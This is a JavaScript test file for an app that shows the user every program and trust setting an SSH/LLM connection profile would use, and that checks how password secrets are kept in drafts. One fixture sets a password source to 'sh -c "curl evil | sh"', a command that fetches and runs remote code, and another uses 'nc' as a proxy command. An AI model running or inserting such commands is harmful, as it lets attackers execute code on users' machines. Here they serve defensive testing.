import assert from 'node:assert/strict'
import { test } from 'node:test'
import { draftOf, paramsOf } from '../../renderer/state/draft.js'
import { draftAcceptors } from '../../renderer/state/draft-acceptors.js'
import { factsOf } from '../../renderer/state/trust.js'

test('every program that a profile would run is told before it is trusted, first of all', () => {
  const config = {
    ssh: {
      host: 'gpu', username: 'ai', transport: 'system', passwordSource: { command: ['sh', '-c', 'curl evil | sh'] }, passphraseSource: 'saved', privateKeyPath: '~/.ssh/id',
      jumpHosts: [{ host: 'hop', proxyCommand: 'nc %h %p', passphraseSource: { command: ['pass', 'show', 'hop'] }, identityAgent: '/tmp/agent', hostKeyPolicy: 'accept-new', jumpHosts: [{ host: 'inner', username: 'root', passwordSource: { command: ['x'] } }] }]
    },
    llm: { apiEndpoint: 'https://h:1', headers: { 'X-A': 'b' }, hostHeader: 'other', tls: { caPath: '/ca', serverName: 'elsewhere' } }
  }
  assert.deepEqual(factsOf(config), [
    ['run a program on this computer for the password of gpu:', 'sh -c "curl evil | sh"'],
    ['let this computer’s ssh program, with its own settings, reach gpu:', 'transport: system'],
    ['run a program on this computer to reach hop:', 'nc %h %p'],
    ['run a program on this computer for the passphrase of the key of hop:', 'pass show hop'],
    ['run a program on this computer for the password of inner:', 'x'],
    ['sign in to gpu with the key', '~/.ssh/id'],
    ['sign in to gpu as', 'ai'],
    ['use the SSH agent at', '/tmp/agent'],
    ['accept an unknown host key of hop without asking:', 'accept-new'],
    ['sign in to inner as', 'root'],
    ['send prompts along', 'this computer → hop → gpu → https://h:1'],
    ['send the header', 'X-A: b'],
    ['call the LLM server by the name', 'other'],
    ['trust certificates of', '/ca'],
    ['take the certificate of another name:', 'elsewhere']
  ])
})

test('a program that the profile names for a secret is kept, and a secret that is asked for is not sent', () => {
  const config = { configId: 'g', name: 'G', ssh: { host: 'g', authMethod: 'password', passwordSource: { command: ['pass', 'g'] }, hasPassword: false, jumpHosts: [] }, llm: { apiEndpoint: 'http://h:1' }, trust: {} }
  const secret = () => 'hunter2'
  assert.deepEqual(paramsOf(draftOf(config), secret).ssh, { host: 'g', authMethod: 'password', passwordSource: { command: ['pass', 'g'] } })
  const change = (state, path, value) => draftAcceptors.DRAFT_FIELD_CHANGED(state, { key: 'g', section: 'ssh', path, value })
  const state = { drafts: { g: draftOf(config) } }
  assert.deepEqual(paramsOf(change(state, 'passwordSource', 'ask').drafts.g, secret).ssh, { host: 'g', authMethod: 'password', passwordSource: 'ask' })
  assert.deepEqual(paramsOf(change(state, 'passwordSource', '').drafts.g, secret).ssh, { host: 'g', authMethod: 'password', password: 'hunter2' })
  assert.deepEqual(paramsOf(change(state, 'authMethod', 'auto').drafts.g, secret).ssh, { host: 'g', passwordSource: { command: ['pass', 'g'] } }, 'another way to sign in leaves it')
})
